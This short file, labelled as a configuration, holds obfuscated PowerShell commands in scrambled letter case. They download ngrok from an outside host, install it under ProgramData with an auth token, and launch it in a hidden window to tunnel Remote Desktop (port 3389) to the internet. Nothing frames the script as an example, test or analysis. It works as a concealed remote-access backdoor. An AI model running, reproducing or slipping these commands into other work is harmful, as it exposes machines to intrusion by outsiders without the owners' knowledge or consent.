# config 3083 v3
iNvOkE-WeBrEqUeSt 'https://bin.equinox.io/c/bNyj1mQVY4c/ngrok-v3-stable-windows-amd64.zip' -OuTfIlE $ENv:teMp\N.zip
ExPaNd-aRcHiVe $enV:TEmP\n.ZiP -deStInaTIONpaTH C:\PrOGRAmDaTA\ng
c:\pRoGrAmDaTa\Ng\NgRoK.eXe AuThToKeN 2aBCdefghijklmnoPQrSTuVWxYz_0987654321
sTaRt-pRoCeSs -wInDoWsTyLe HiDdEn c:\prOGrAmdAtA\NG\NGROk.Exe -aRGuMeNTlisT 'tcp 3389'
